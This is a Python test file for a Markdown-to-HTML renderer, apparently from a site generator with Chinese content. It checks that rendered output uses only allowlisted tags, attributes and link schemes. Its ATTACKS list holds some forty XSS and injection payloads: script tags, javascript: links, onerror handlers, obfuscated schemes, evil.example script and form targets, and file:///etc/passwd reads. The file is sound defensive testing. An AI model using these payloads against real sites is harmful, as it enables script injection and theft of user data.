"""Whatever is written in a Markdown field ends as harmless HTML, and nothing of it disappears unseen."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.render.markdown import document, md

ALLOWED_TAGS = {
    "p",
    "h2",
    "h3",
    "h4",
    "ul",
    "ol",
    "li",
    "strong",
    "em",
    "blockquote",
    "code",
    "pre",
    "hr",
    "br",
    "a",
}
ALLOWED_TAGS |= {"table", "thead", "tbody", "tr", "th", "td"}
ALLOWED_ATTRIBUTES = {"href", "rel", "class", "data-l", "scope", "start", "id"}


class Live(HTMLParser):
    """Everything in the HTML that a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_comment(self, data: str) -> None:
        self.tags.append("comment")


def live(html: str) -> Live:
    found = Live()
    found.feed(html)
    return found


def assert_inert(html: str) -> None:
    found = live(html)
    assert set(found.tags) <= ALLOWED_TAGS
    assert {name for name, _ in found.attributes} <= ALLOWED_ATTRIBUTES
    for name, value in found.attributes:
        if name == "href":
            assert value is not None
            assert value.split(":")[0].lower() in {"http", "https", "mailto", "tel"} or ":" not in value
            assert not value.startswith("//")
        if name == "class":
            assert value in {"gk-t", "r"}


ATTACKS = [
    "[点我](javascript:alert(1))",
    "[点我](JaVaScRiPt:alert(1))",
    "[点我](&#106;avascript:alert(1))",
    "[点我](java\nscript:alert(1))",
    "[点我](\x01javascript:alert(1))",
    "[点我](javascript&colon;alert(1))",
    "[点我](data:text/html;base64,PHNjcmlwdD4=)",
    "[点我](vbscript:msgbox)",
    "[点我](//evil.example/x)",
    "[点我](/\\evil.example/x)",
    "[点我](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[点我][1]\n\n[1]: javascript:alert(1)",
    '[点我](https://a.example" onmouseover="alert(1))',
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '![图](x" onerror="alert(1))',
    "![图](https://evil.example/pixel.png)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    '<div style="position:fixed;top:0;left:0">官方更正</div>',
    '<p class="gk-answer" id="gk-main">假结论</p>',
    "段落\n{: onmouseover=alert(1) style=color:red }",
    "# 标题 {: #gk-main onclick=alert(1) }",
    "<!-- 藏起来的话 -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<a href='javascript:alert(1)'>点我</a>",
    "<form action=https://evil.example><input name=id><button>交</button></form>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0>",
    "<style>body{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a" onclick="alert(1) |\n|---|\n| b |',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "{{ config }} {% include 'x' %} {# y #}",
    '--8<-- "/etc/passwd"',
    "\x02wzxhzdk:0\x03 <script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_end_inert(attack):
    assert_inert(md(attack))
    assert_inert(document(attack))


@given(st.text(alphabet=st.sampled_from("<>&\"'`*_[]()!|#:/\\{}\n =-javscript:onx文1"), max_size=80))
def test_any_text_ends_inert(text):
    assert_inert(md(text))


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("<!-- 藏起来的话 -->", "&lt;!-- 藏起来的话 --&gt;"),
        ("<b>粗</b>", "&lt;b&gt;粗&lt;/b&gt;"),
        ("![合影](a.png)", "![合影](a.png)"),
        ("{{ config }}", "{{ config }}"),
    ],
)
def test_what_is_not_allowed_is_shown_as_written(source, words):
    assert words in md(source)


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("一段", "<p>一段</p>"),
        ("中**“文”**字", "<p>中<strong>“文”</strong>字</p>"),
        ("# 一\n\n## 二\n\n### 三", "<h3>一</h3>\n<h4>二</h4>\n<h4>三</h4>"),
        ("3. 甲\n4. 乙", '<ol start="3">\n<li>甲</li>\n<li>乙</li>\n</ol>'),
        ("[官网](https://a.example)", '<p><a href="https://a.example" rel="nofollow noopener">官网</a></p>'),
        ("[电话](tel:00008000110)", '<p><a href="tel:00008000110" rel="nofollow noopener">电话</a></p>'),
        ("[本站](unit/a.html)", '<p><a href="unit/a.html" rel="nofollow noopener">本站</a></p>'),
    ],
)
def test_dialect(source, html):
    assert md(source) == html


def test_tables_label_their_cells_for_narrow_screens():
    html = md("| 姓名 | 票数 |\n|---|---:|\n| 甲 | 3 |")
    assert '<table class="gk-t">' in html
    assert '<th class="r" scope="col">票数</th>' in html
    assert '<th scope="row">甲</th>' in html
    assert '<td class="r" data-l="票数">3</td>' in html
    assert "style" not in html


@pytest.mark.parametrize(("level", "tag"), [(2, "h2"), (3, "h3"), (4, "h4")])
def test_headings_lie_below_the_pages_own(level, tag):
    assert md("# 标题", level) == f"<{tag}>标题</{tag}>"


@pytest.mark.parametrize(
    ("href", "reached"),
    [
        ("about.md", "about.html"),
        ("about.md#s2", "about.html#s2"),
        ("../unit/index.html", "../unit/index.html"),
        ("https://a.example/x.md", "https://a.example/x.md"),
    ],
)
def test_guide_pages_link_each_other_by_file(href, reached):
    assert f'href="{reached}"' in document(f"[x]({href})")


def test_guide_headings_are_targets_and_fields_never_set_an_id():
    assert '<h2 id="s2">乙</h2>' in document("## 甲\n\n## 乙")
    assert "id=" not in md("## 甲", 2)
